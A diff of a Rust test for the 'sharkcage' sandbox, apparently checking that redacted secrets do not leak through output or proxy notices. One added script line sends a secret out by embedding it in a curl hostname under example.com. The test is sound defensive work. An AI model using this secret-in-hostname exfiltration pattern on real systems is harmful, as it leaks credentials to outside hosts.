@@ -223,18 +223,23 @@ fn redacted_values_reach_the_command_but_not_its_output() {
     let value = t.secret("redact");
     let mut spec = spec_for(&t, &value);
     spec.redact = vec!["SPECVAR".into()];
+    // A proxy, so that a refused host made of the value is named in a notice.
+    spec.policy_json = Some(r#"{"network":{"allowedDomains":["allowed.example"]}}"#.into());
     spec.notices = vec![format!("sc: notice-{}", t.id)];
     let dir = t.root.join("state/spec");
     let p = callspec::write_file(&dir, &spec).unwrap();
     // Printed whole, one byte at a time (split across writes), to stderr,
     // and its hash computed inside (the command did get it).
-    let script = r#"echo "v=$SPECVAR"; printf '%s' "$SPECVAR" | while IFS= read -r -n1 c; do printf '%s' "$c"; done; echo; echo "e=$SPECVAR" >&2; printf '%s' "$SPECVAR" | sha256sum"#;
+    let script = r#"echo "v=$SPECVAR"; printf '%s' "$SPECVAR" | while IFS= read -r -n1 c; do printf '%s' "$c"; done; echo; echo "e=$SPECVAR" >&2; printf '%s' "$SPECVAR" | sha256sum; curl -s -o /dev/null --max-time 5 "http://$SPECVAR.example.com/" || true"#;
     let o = t.sc().opt(format!("--spec-file={}", p.display())).cmd(["bash", "-c", script]).run();
     o.assert_ok();
     o.assert_absent(&value);
     assert!(o.out().contains("v=[sharkcage: redacted SPECVAR]"), "{}", o.all());
     assert!(o.err().contains("e=[sharkcage: redacted SPECVAR]"), "{}", o.all());
     assert!(o.err().contains(&format!("sc: notice-{}", t.id)), "{}", o.all());
+    // The refused host (lower-cased by the proxy) in the notice and the result.
+    assert!(o.err().contains("[sharkcage: redacted SPECVAR].example.com"), "{}", o.all());
+    assert!(!o.all().to_lowercase().contains(&value.to_lowercase()), "{}", o.all());
     let hash = {
         use std::io::Write;
         let mut c = std::process::Command::new("sha256sum").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
